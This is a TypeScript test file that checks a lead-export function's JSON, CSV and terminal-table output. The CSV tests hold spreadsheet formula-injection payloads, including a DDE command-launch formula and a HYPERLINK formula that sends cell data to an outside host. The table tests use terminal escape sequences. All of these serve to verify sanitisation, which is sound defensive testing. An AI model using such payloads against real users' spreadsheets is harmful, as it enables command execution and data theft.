import { describe, expect, test } from 'vitest'
import { contactForm } from '../../requests/contact-form'
import { longestBytes } from '../../requests/form-declaration'
import { leadForm } from '../../requests/lead-form'
import type { FormRequest } from '../../requests/request-forms'
import { contactRequest, leadRequest } from '../../tests/mail/sample-requests'
import { csvSeparator, formatLeads } from './leads-format'

const received = '2026-03-01T12:30:00.000Z'

describe('as JSON', () => {
  test('all fields are there, unchanged', () => {
    const requests = [contactRequest({ message: 'a\r\n\u0000\u001B[31m\uD800"=1+1,;👩‍👩‍👧‍👦' }), leadRequest()]
    const json = formatLeads(stored(...requests), 'json')
    expect(JSON.parse(json)).toEqual(
      requests.map((request, index) => ({ id: `${index + 1}`, received, forwarding: 'waiting', ...request })),
    )
    expect(json.endsWith(']\n')).toBe(true)
  })

  test('no requests are an empty list', () => {
    expect(JSON.parse(formatLeads([], 'json'))).toEqual([])
  })
})

describe('as CSV', () => {
  test('there is a column for each field of either kind, for Excel in UTF-8', () => {
    const requests = [contactRequest(), leadRequest()]
    const csv = formatLeads(stored(...requests), 'csv')
    expect(csv.startsWith(`\u{FEFF}id${csvSeparator}received${csvSeparator}forwarding${csvSeparator}`)).toBe(true)
    const [head, ...rows] = cells(csv)
    const names = Object.keys({ ...contactForm.fields, ...leadForm.fields, origin: '' })
    expect(head?.slice(3)).toEqual(names)
    expect(rows).toEqual(
      requests.map((request: Record<string, string>, index) => [
        ...[`${index + 1}`, received, 'waiting'],
        ...names.map((name) => (request[name] ?? '').replace(/^\+/, "'+")),
      ]),
    )
  })

  test.each([
    "=cmd|' /C calc'!A0",
    '+1',
    '-1',
    '@SUM(A1)',
    '=HYPERLINK("https://other.example?"&A1,"x")',
    '\t=1',
    '\r=1',
  ])('%j is no formula', (text) => {
    const [, row] = cells(formatLeads(stored(contactRequest({ name: text })), 'csv'))
    expect(row?.[3]).toBe(`'${text}`)
  })

  test('separators, quotes and line breaks stay in their field', () => {
    const message = 'a,b;"c"\n"d\r\n",=1'
    const [head, row, ...rest] = cells(formatLeads(stored(contactRequest({ message })), 'csv'))
    expect(row?.[head?.indexOf('message') ?? -1]).toBe(message)
    expect(rest).toEqual([])
  })

  test('a message of the longest length is complete', () => {
    const message = 'a'.repeat(longestBytes.textarea)
    const [head, row] = cells(formatLeads(stored(contactRequest({ message })), 'csv'))
    expect(row?.[head?.indexOf('message') ?? -1]).toBe(message)
  })

  test('no requests are a line with the names of the columns', () => {
    expect(cells(formatLeads([], 'csv'))).toHaveLength(1)
  })
})

describe('as a table', () => {
  test('each request is a line, and they are counted', () => {
    const table = formatLeads(stored(contactRequest(), leadRequest()), 'table')
    expect(table).toMatch(/│ id +│ received +│ name +│.*│ message +│/)
    expect(table).not.toContain('origin')
    expect(table).toMatch(/│ Maria Silva +│.*│ Preciso de um orçamento\. Obrigada\. │/)
    expect(table).toMatch(/│ João Souza +│.*│ Goiás +│/)
    expect(table.endsWith('\n2 in all.\n')).toBe(true)
  })

  test('a long text is cut, and ends with an ellipsis', () => {
    const table = formatLeads(stored(contactRequest({ message: '🙂'.repeat(41), company: 'x'.repeat(40) })), 'table')
    expect(table).toContain(`${'🙂'.repeat(39)}…`)
    expect(table).toContain('x'.repeat(40))
    expect(table).not.toContain('x'.repeat(41))
  })

  test('it contains no control characters for the terminal', () => {
    const nasty = 'a\u001B[2Jb\u0007c\u0000d\u009B31me\u202Ef\rg\nh\u2028i\u007F'
    const table = formatLeads(stored(contactRequest({ name: nasty, company: nasty, message: nasty })), 'table')
    expect(table.replaceAll('\n', '')).not.toMatch(/[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u)
    expect(table).toContain('a\u{FFFD}[2Jb\u{FFFD}c\u{FFFD}d\u{FFFD}31me\u{FFFD}f g h i\u{FFFD}')
    expect(table.split('\n').filter((line) => line.includes('│'))).toHaveLength(2)
  })

  test('no requests are a sentence', () => {
    expect(formatLeads([], 'table')).toBe('There are no requests.\n')
  })
})

function stored(...requests: FormRequest[]) {
  return requests.map((request, index) => ({
    id: index + 1,
    receivedAt: Date.parse(received),
    isSpam: false,
    forwarding: 'waiting' as const,
    request,
  }))
}

/** Reads CSV as spreadsheets do. */
function cells(csv: string): string[][] {
  const rows: string[][] = [[]]
  const cell = new RegExp(`(?:"((?:[^"]|"")*)"|([^"${csvSeparator}\\n]*))(${csvSeparator}|\\n)`, 'g')
  for (const [, quoted, plain = '', end] of csv.matchAll(cell)) {
    rows.at(-1)?.push(quoted?.replaceAll('""', '"') ?? plain)
    if (end === '\n') rows.push([])
  }
  return rows.slice(0, -1)
}
